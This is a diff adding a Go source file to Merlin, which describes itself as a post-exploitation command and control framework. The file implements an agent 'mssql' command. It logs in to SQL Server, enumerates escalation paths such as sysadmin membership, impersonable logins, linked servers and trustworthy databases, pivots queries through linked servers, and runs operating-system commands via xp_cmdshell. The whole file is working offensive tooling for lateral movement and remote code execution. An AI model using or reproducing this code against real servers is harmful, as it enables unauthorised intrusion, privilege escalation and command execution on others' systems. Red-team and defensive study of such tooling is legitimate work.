@@ -0,0 +1,237 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"net"
+	"strings"
+	"text/tabwriter"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// mssqlTimeout is how long a query, which includes commands run with xp_cmdshell, can take to return
+const mssqlTimeout = 2 * time.Minute
+
+// mssqlInfo returns the server's version, the login's context and privileges, and the common escalation paths
+const mssqlInfo = `SELECT 'Server' AS [Name], CAST(@@SERVERNAME AS nvarchar(4000)) AS [Value]
+UNION ALL SELECT 'Version', CAST(SERVERPROPERTY('ProductVersion') AS nvarchar(4000))
+UNION ALL SELECT 'Edition', CAST(SERVERPROPERTY('Edition') AS nvarchar(4000))
+UNION ALL SELECT 'Login', SYSTEM_USER
+UNION ALL SELECT 'Database User', USER_NAME()
+UNION ALL SELECT 'Sysadmin', CAST(IS_SRVROLEMEMBER('sysadmin') AS nvarchar(4000))
+UNION ALL SELECT 'xp_cmdshell', CAST((SELECT value_in_use FROM sys.configurations WHERE name = 'xp_cmdshell') AS nvarchar(4000))
+UNION ALL SELECT 'Impersonable Logins', STUFF((SELECT ', ' + p.name FROM sys.server_permissions s JOIN sys.server_principals p ON s.grantor_principal_id = p.principal_id WHERE s.permission_name = 'IMPERSONATE' FOR XML PATH('')), 1, 2, '')
+UNION ALL SELECT 'Linked Servers', STUFF((SELECT ', ' + name FROM sys.servers WHERE is_linked = 1 FOR XML PATH('')), 1, 2, '')
+UNION ALL SELECT 'Trustworthy Databases', STUFF((SELECT ', ' + name FROM sys.databases WHERE is_trustworthy_on = 1 AND name <> 'msdb' FOR XML PATH('')), 1, 2, '')
+UNION ALL SELECT 'Databases', STUFF((SELECT ', ' + name FROM sys.databases FOR XML PATH('')), 1, 2, '')`
+
+// mssqlLinks returns the linked servers with the remote login the current login is mapped to
+const mssqlLinks = `SELECT s.name AS [Name], s.product AS [Product], s.provider AS [Provider], s.data_source AS [Data Source],
+s.is_data_access_enabled AS [Data Access], s.is_rpc_out_enabled AS [RPC Out],
+ISNULL(l.remote_name, CASE WHEN l.uses_self_credential = 1 THEN '(current login)' END) AS [Remote Login]
+FROM sys.servers s LEFT JOIN sys.linked_logins l ON s.server_id = l.server_id AND l.local_principal_id IN (0, SUSER_ID())
+WHERE s.is_linked = 1`
+
+// MSSQL connects to a SQL Server with SQL Server authentication or, when the user is DOMAIN\user, Windows
+// authentication with NTLM and runs queries, enumerates linked servers, queries through a linked server, and runs
+// operating system commands with xp_cmdshell when it is already enabled. Servers are host, host:port, or
+// host\instance to find a named instance's port with the SQL Server Browser
+// mssql info <server> <user> <password>
+// mssql query <server> <user> <password> <query>
+// mssql links <server> <user> <password>
+// mssql linkquery <server> <user> <password> <link> <query>
+// mssql xpcmd <server> <user> <password> [-link <link>] <command>
+func MSSQL(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering MSSQL() with %+v", cmd))
+	}
+	if len(cmd.Args) < 4 {
+		results.Stderr = fmt.Sprintf("expected 4 or more arguments for the mssql command, received %d", len(cmd.Args))
+		return
+	}
+	server, args := cmd.Args[1], cmd.Args[4:]
+
+	var sql string
+	switch strings.ToLower(cmd.Args[0]) {
+	case "info":
+		sql = mssqlInfo
+	case "query":
+		if len(args) < 1 {
+			results.Stderr = "the mssql query command requires a query"
+			return
+		}
+		sql = strings.Join(args, " ")
+	case "links":
+		sql = mssqlLinks
+	case "linkquery":
+		if len(args) < 2 {
+			results.Stderr = "the mssql linkquery command requires a linked server and a query"
+			return
+		}
+		sql = fmt.Sprintf("SELECT * FROM OPENQUERY(%s, '%s')", sqlIdentifier(args[0]), sqlQuote(strings.Join(args[1:], " ")))
+	case "xpcmd":
+		var link string
+		if len(args) > 1 && strings.ToLower(args[0]) == "-link" {
+			link, args = args[1], args[2:]
+		}
+		if len(args) < 1 {
+			results.Stderr = "the mssql xpcmd command requires a command"
+			return
+		}
+		var err error
+		results.Stdout, err = xpCmdShell(server, cmd.Args[2], cmd.Args[3], link, strings.Join(args, " "))
+		if err != nil {
+			results.Stderr = err.Error()
+		}
+		return
+	default:
+		results.Stderr = fmt.Sprintf("unknown mssql command: %s", cmd.Args[0])
+		return
+	}
+
+	conn, err := mssqlLogin(server, cmd.Args[2], cmd.Args[3])
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	defer conn.Close()
+	reply, err := conn.query(sql)
+	if err != nil {
+		results.Stderr = err.Error()
+		return
+	}
+	results.Stdout = resultsText(reply)
+	results.Stderr = strings.Join(reply.Errors, "\n")
+	var records []SQLResultRecord
+	for _, result := range reply.Results {
+		records = append(records, SQLResultRecord{Server: server, Columns: result.Columns, Rows: result.Rows})
+	}
+	structured = newStructured("mssql", records)
+	return
+}
+
+// mssqlLogin connects and logs in to the SQL Server with Windows authentication when the user has a domain
+func mssqlLogin(server, user, password string) (*tdsConn, error) {
+	conn, err := dialTDS(server, adReconTimeout)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error connecting to the SQL Server %s: %s", server, err)
+	}
+	var domain string
+	if i := strings.Index(user, "\\"); i > 0 {
+		domain, user = user[:i], user[i+1:]
+	}
+	host := server
+	if i := strings.Index(host, "\\"); i > 0 {
+		host = host[:i]
+	} else if h, _, err := net.SplitHostPort(host); err == nil {
+		host = h
+	}
+	if err = conn.login(host, domain, user, password, ""); err != nil {
+		conn.Close()
+		return nil, fmt.Errorf("there was an error logging in to the SQL Server %s: %s", server, err)
+	}
+	conn.timeout = mssqlTimeout
+	return conn, nil
+}
+
+// xpCmdShell runs an operating system command with xp_cmdshell, directly or through a linked server with RPC Out
+// enabled, if xp_cmdshell is already enabled on the server that runs it
+func xpCmdShell(server, user, password, link, command string) (string, error) {
+	conn, err := mssqlLogin(server, user, password)
+	if err != nil {
+		return "", err
+	}
+	defer conn.Close()
+	at := func(sql string) string {
+		if link == "" {
+			return sql
+		}
+		return fmt.Sprintf("EXEC ('%s') AT %s", sqlQuote(sql), sqlIdentifier(link))
+	}
+	target := server
+	if link != "" {
+		target = link
+	}
+
+	reply, err := conn.query(at("SELECT CAST(value_in_use AS int) FROM sys.configurations WHERE name = 'xp_cmdshell'"))
+	if err != nil {
+		return "", err
+	}
+	if len(reply.Errors) > 0 {
+		return "", fmt.Errorf("there was an error checking if xp_cmdshell is enabled on %s: %s", target, strings.Join(reply.Errors, ", "))
+	}
+	if len(reply.Results) == 0 || len(reply.Results[0].Rows) == 0 || reply.Results[0].Rows[0][0] != "1" {
+		return "", fmt.Errorf("xp_cmdshell is not enabled on %s", target)
+	}
+
+	reply, err = conn.query(at(fmt.Sprintf("EXEC master..xp_cmdshell '%s'", sqlQuote(command))))
+	if err != nil {
+		return "", err
+	}
+	if len(reply.Errors) > 0 {
+		return "", fmt.Errorf("there was an error running xp_cmdshell on %s: %s", target, strings.Join(reply.Errors, ", "))
+	}
+	var output []string
+	for _, result := range reply.Results {
+		for _, row := range result.Rows {
+			if len(row) > 0 && row[0] != "NULL" {
+				output = append(output, row[0])
+			}
+		}
+	}
+	return strings.Join(output, "\n"), nil
+}
+
+// resultsText returns the result sets as tables followed by the server's informational messages
+func resultsText(reply tdsResponse) string {
+	var sb strings.Builder
+	for i, result := range reply.Results {
+		if i > 0 {
+			sb.WriteString("\n")
+		}
+		w := tabwriter.NewWriter(&sb, 0, 0, 2, ' ', 0)
+		fmt.Fprintln(w, strings.Join(result.Columns, "\t"))
+		for _, row := range result.Rows {
+			fmt.Fprintln(w, strings.Join(row, "\t"))
+		}
+		_ = w.Flush()
+		fmt.Fprintf(&sb, "(%d rows)\n", len(result.Rows))
+	}
+	for _, message := range reply.Messages {
+		sb.WriteString(message + "\n")
+	}
+	return sb.String()
+}
+
+// sqlQuote escapes a string for a single quoted SQL literal
+func sqlQuote(s string) string {
+	return strings.ReplaceAll(s, "'", "''")
+}
+
+// sqlIdentifier returns a bracket delimited SQL identifier
+func sqlIdentifier(s string) string {
+	return "[" + strings.ReplaceAll(s, "]", "]]") + "]"
+}